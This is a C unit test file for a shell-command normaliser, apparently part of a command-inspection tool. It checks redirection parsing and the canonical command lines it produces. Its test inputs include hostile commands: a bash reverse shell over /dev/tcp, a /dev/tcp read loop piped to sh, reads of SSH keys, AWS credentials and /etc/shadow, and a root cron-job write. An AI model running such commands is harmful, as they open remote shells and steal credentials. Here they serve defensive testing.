/* Redirections and the canonical line. */
#include "norm_test.h"

Test(norm_redir, reverse_shell_line)
{
    const px_actions *a = norm("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    const px_cmd *c = need_prog(a, "bash");
    cr_assert_str_eq(c->line, "bash -i >&/dev/tcp/10.0.0.1/4444 0>&1");
    cr_assert_eq(c->nredirs, 2);
    cr_assert_str_eq(c->redirs[0].target, "/dev/tcp/10.0.0.1/4444");
    cr_assert_eq(c->redirs[0].op, PX_REDIR_OUT);
    cr_assert_eq(c->redirs[0].fd, 1);
    cr_assert_eq(c->redirs[1].op, PX_REDIR_DUP);
    cr_assert_eq(c->redirs[1].fd, 0);
    cr_assert_str_eq(c->redirs[1].target, "1");
}

Test(norm_redir, all_operators)
{
    const px_actions *a = norm("cmd <in >out >>app >|clob <>rw &>both &>>bothapp 2>&1 <&3 3>&- 2>err {fd}>f");
    const px_cmd *c = need_prog(a, "cmd");
    cr_assert_eq(c->argc, 1, "%s", dump(a));
    cr_assert_str_eq(c->line, "cmd <in >out >>app >|clob <>rw &>both &>>bothapp 2>&1 <&3 3>&- 2>err {fd}>f");
    static const struct {
        int fd;
        px_redir_op op;
        const char *t;
    } want[] = {
        {0, PX_REDIR_IN, "in"},       {1, PX_REDIR_OUT, "out"},   {1, PX_REDIR_APPEND, "app"},
        {1, PX_REDIR_OUT, "clob"},    {0, PX_REDIR_INOUT, "rw"},  {1, PX_REDIR_OUT, "both"},
        {1, PX_REDIR_APPEND, "bothapp"}, {2, PX_REDIR_DUP, "1"}, {0, PX_REDIR_DUP, "3"},
        {3, PX_REDIR_DUP, "-"},       {2, PX_REDIR_OUT, "err"},   {10, PX_REDIR_OUT, "f"},
    };
    cr_assert_eq(c->nredirs, 12);
    for (int i = 0; i < 12; i++) {
        cr_assert_eq(c->redirs[i].fd, want[i].fd, "redir %d: %s", i, dump(a));
        cr_assert_eq(c->redirs[i].op, want[i].op, "redir %d", i);
        cr_assert_str_eq(c->redirs[i].target, want[i].t, "redir %d", i);
    }
}

Test(norm_redir, spaced_targets_and_tilde)
{
    const px_actions *a = norm("echo x >> ~/.bashrc; cat < ~/.ssh/id_rsa; cat 0< $HOME/.aws/credentials");
    assert_line(a, "echo x >>~/.bashrc");
    assert_line(a, "cat <~/.ssh/id_rsa");
    assert_line(a, "cat 0<~/.aws/credentials");
}

Test(norm_redir, redirect_before_command)
{
    const px_actions *a = norm("2>/dev/null >out nmap -sV x");
    const px_cmd *c = need_prog(a, "nmap");
    cr_assert_str_eq(c->line, "nmap -sV x 2>/dev/null >out");
}

Test(norm_redir, fd_prefix_needs_adjacency)
{
    const px_actions *a = norm("echo 2 >x; echo a2>y");
    const px_cmd *c = &a->cmds[0];
    cr_assert_str_eq(c->argv[1], "2");
    cr_assert_eq(c->redirs[0].fd, 1);
    cr_assert_str_eq(a->cmds[1].argv[1], "a2", "%s", dump(a));
}

Test(norm_redir, dev_tcp_read)
{
    const px_actions *a = norm("exec 5<>/dev/tcp/evil/80; cat <&5 | sh >&5 2>&5");
    const px_cmd *e = need_prog(a, "exec");
    cr_assert_str_eq(e->redirs[0].target, "/dev/tcp/evil/80");
    cr_assert_eq(e->redirs[0].fd, 5);
    assert_line(a, "sh >&5 2>&5");
}

Test(norm_redir, redirect_only_command_is_not_a_command)
{
    const px_actions *a = norm("> /tmp/empty");
    cr_assert_eq(a->ncmds, 0, "%s", dump(a));
}

/* Redirections after a compound command feed it a file or take its
 * output: they become a command of their own (`cat` for a read, `:`
 * otherwise) so that the file is seen. */
Test(norm_redir, redirections_after_a_compound_command_are_a_command)
{
    const px_actions *a = norm("while read l; do echo \"$l\"; done < /etc/shadow");
    const px_cmd *c = need_prog(a, "cat");
    cr_assert_eq(c->argc, 1, "%s", dump(a));
    cr_assert_eq(c->nredirs, 1);
    cr_assert_eq(c->redirs[0].op, PX_REDIR_IN);
    cr_assert_str_eq(c->redirs[0].target, "/etc/shadow");
    cr_assert_str_eq(c->line, "cat </etc/shadow");
    need_prog(a, "read");

    a = norm("{ echo '* * * * * root /tmp/x'; } > /etc/cron.d/job");
    c = need_prog(a, ":");
    cr_assert_eq(c->nredirs, 1, "%s", dump(a));
    cr_assert_eq(c->redirs[0].op, PX_REDIR_OUT);
    cr_assert_str_eq(c->redirs[0].target, "/etc/cron.d/job");

    a = norm("if true; then echo ok; fi >> /tmp/out.log 2>&1");
    c = need_prog(a, ":");
    cr_assert_eq(c->nredirs, 2, "%s", dump(a));
    cr_assert_str_eq(c->redirs[0].target, "/tmp/out.log");

    /* Not after a compound: no command of their own. */
    a = norm("echo hi; > /tmp/empty");
    cr_assert_null(find_prog(a, ":"), "%s", dump(a));
    cr_assert_null(find_prog(a, "cat"), "%s", dump(a));
}

Test(norm_redir, line_starts_with_prog_and_is_a_text)
{
    const px_actions *a = norm("sudo /usr/bin/env -i PATH=/x /usr/bin/nmap -sV x > o");
    const px_cmd *c = need_prog(a, "nmap");
    cr_assert_str_eq(c->line, "nmap -sV x >o");
    const px_text *t = find_text(a, PX_TEXT_CMD, "nmap -sV");
    cr_assert_not_null(t);
    cr_assert_eq(t->cmd, cmd_index(a, c));
    cr_assert_eq(t->len, strlen(c->line));
}
